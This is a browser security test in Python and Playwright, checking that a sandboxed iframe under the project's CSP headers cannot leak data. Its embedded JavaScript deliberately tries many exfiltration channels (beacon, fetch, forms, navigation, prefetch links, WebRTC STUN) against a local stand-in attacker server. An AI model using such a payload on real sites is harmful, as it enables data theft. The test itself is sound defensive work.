"""A hostile frame in a real browser: its own files work, and nothing that it knows gets out.

Goal: the two headers that `sconto.frames` makes hold what they promise. Method: three loopback
servers (frames, a page that embeds the frame, the attacker) and a STUN port; the frame's script
tries every way out that a page has, then tells what it found.
"""

import json
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from sconto.base.canonical import digest
from sconto.base.keys import SigningKey
from sconto.frames import (
    CONNECTION_ALLOWLIST,
    Frame,
    FrameOffer,
    build_frame,
    content_type,
    frame_csp,
    frame_key,
)

CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002"
    "000001e221bc330000000049454e44ae426082"
)
HTML = b"""<!doctype html><link rel=stylesheet href=css/f.css><h1>x</h1><p style="color:blue">y</p>
<img src=img/a.png><script>window.inlineRan = true</script><script src=js/a.js></script>"""
SCRIPT = """
const said = {origin: self.origin};
const attempt = (name, act) => {
  try { said[name] = String(act()) } catch (error) { said[name] = error.name }
};
const link = (rel, as) => {
  const element = document.createElement('link');
  Object.assign(element, {rel, href: '%(evil)s/' + rel, as});
  document.head.append(element);
};
(async () => {
  attempt('storage', () => localStorage.length);
  attempt('cookie', () => document.cookie);
  attempt('parent', () => parent.document.title);
  attempt('top', () => { top.location = '%(evil)s/top' });
  attempt('popup', () => window.open('%(evil)s/popup'));
  attempt('beacon', () => navigator.sendBeacon('%(evil)s/beacon', 'x'));
  attempt('form', () => {
    const form = document.createElement('form');
    form.action = '%(evil)s/form'; document.body.append(form); form.submit();
  });
  attempt('eval', () => eval('1'));
  ['prefetch', 'preconnect', 'dns-prefetch', 'stylesheet'].forEach(rel => link(rel, ''));
  link('preload', 'image');
  for (const tag of ['img', 'script', 'iframe', 'object']) {
    const element = document.createElement(tag);
    element[tag === 'object' ? 'data' : 'src'] = '%(evil)s/' + tag;
    document.body.append(element);
  }
  said.fetch = await fetch('%(evil)s/fetch').then(() => 'ok', e => e.name);
  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%(stun)d'}]});
  peer.createDataChannel('x');
  await peer.setLocalDescription();
  await new Promise(done => setTimeout(done, 700));
  said.inline = Boolean(window.inlineRan);
  said.styleSheet = getComputedStyle(document.querySelector('h1')).color;
  said.inlineStyle = getComputedStyle(document.querySelector('p')).color;
  said.image = document.querySelector('img').naturalWidth;
  parent.postMessage(JSON.stringify(said), '*');
  await new Promise(done => setTimeout(done, 200));
  location.href = '%(evil)s/navigated?secret';
})();
"""

Answer = tuple[bytes, dict[str, str]] | None


@contextmanager
def serving(answer: Callable[[str], Answer]) -> Iterator[str]:
    """A server on a free loopback port; its URL."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body, headers = answer(self.path) or (b"", {})
            self.send_response(200 if headers else 404)
            for name, value in {**headers, "Content-Length": str(len(body))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *arguments: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def frame_of(script: str) -> Frame:
    return build_frame(
        SigningKey.from_seed(bytes(32)),
        merchant="https://shop.example",
        hub="https://hub.example",
        not_before_s=0,
        expires_s=1,
        sequence=1,
        offers=[FrameOffer(id="o", promotion_id="p", terms_digest=digest(b""))],
        files={
            "index.html": HTML,
            "css/f.css": b"h1 { color: rgb(1, 2, 3) }",
            "js/a.js": script.encode(),
            "img/a.png": PIXEL,
        },
    )


@pytest.mark.slow
def test_nothing_gets_out_of_a_hostile_frame() -> None:
    from playwright.sync_api import sync_playwright

    asked: list[str] = []
    page: dict[str, bytes] = {}
    urls: dict[str, str] = {}

    def evil(path: str) -> Answer:
        asked.append(path)
        return b"", {"Content-Type": "text/html", "Access-Control-Allow-Origin": "*"}

    def resource(path: str) -> Answer:
        found = {r.path: r for r in frame.manifest.resources}.get(path.removeprefix(folder))
        if found is None:
            return None
        policy = frame_csp(
            frame.manifest, served_at=urls["frames"] + folder + "/", frame_ancestors=urls["hub"]
        )
        return frame.resources[found.path], {
            "Content-Type": content_type(found),
            "Content-Security-Policy": policy,
            "Connection-Allowlist": CONNECTION_ALLOWLIST,
        }

    def embedding(path: str) -> Answer:
        return page["html"], {"Content-Type": "text/html"}

    stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stun.bind(("127.0.0.1", 0))
    stun.setblocking(False)
    with (
        stun,
        serving(evil) as evil_url,
        serving(embedding) as hub_url,
        serving(embedding) as other_url,
        serving(resource) as frames_url,
        sync_playwright() as playwright,
        playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"]) as browser,
    ):
        frame = frame_of(SCRIPT % {"evil": evil_url, "stun": stun.getsockname()[1]})
        folder = f"/frames/{frame_key(frame.frame_id)}"
        urls |= {"frames": frames_url, "hub": hub_url}
        source = f"{frames_url}{folder}/index.html"
        page["html"] = (
            f"<!doctype html><iframe sandbox=allow-scripts src='{source}'></iframe>"
            "<script>addEventListener('message', e => document.title = e.data)</script>"
        ).encode()
        tab = browser.new_page()
        tab.goto(hub_url)
        tab.wait_for_function("document.title.startsWith('{')", timeout=10_000)
        said = json.loads(tab.title())
        tab.wait_for_timeout(800)
        assert said == {
            "origin": "null",
            "storage": "SecurityError",
            "cookie": "SecurityError",
            "parent": "SecurityError",
            "top": "SecurityError",
            "popup": "null",
            "beacon": "true",  # accepted, and then not sent
            "form": "undefined",
            "eval": "EvalError",
            "fetch": "TypeError",
            "inline": False,
            "styleSheet": "rgb(1, 2, 3)",
            "inlineStyle": "rgb(0, 0, 255)",
            "image": 1,
        }
        assert asked == []
        with pytest.raises(BlockingIOError):
            stun.recvfrom(2000)
        # Another site may not embed it, and opened directly it is in the same sandbox.
        tab.goto(other_url)
        tab.wait_for_timeout(300)
        assert source not in {inner.url for inner in tab.frames}
        tab.goto(source)
        assert tab.evaluate("self.origin") == "null"
        assert asked == []
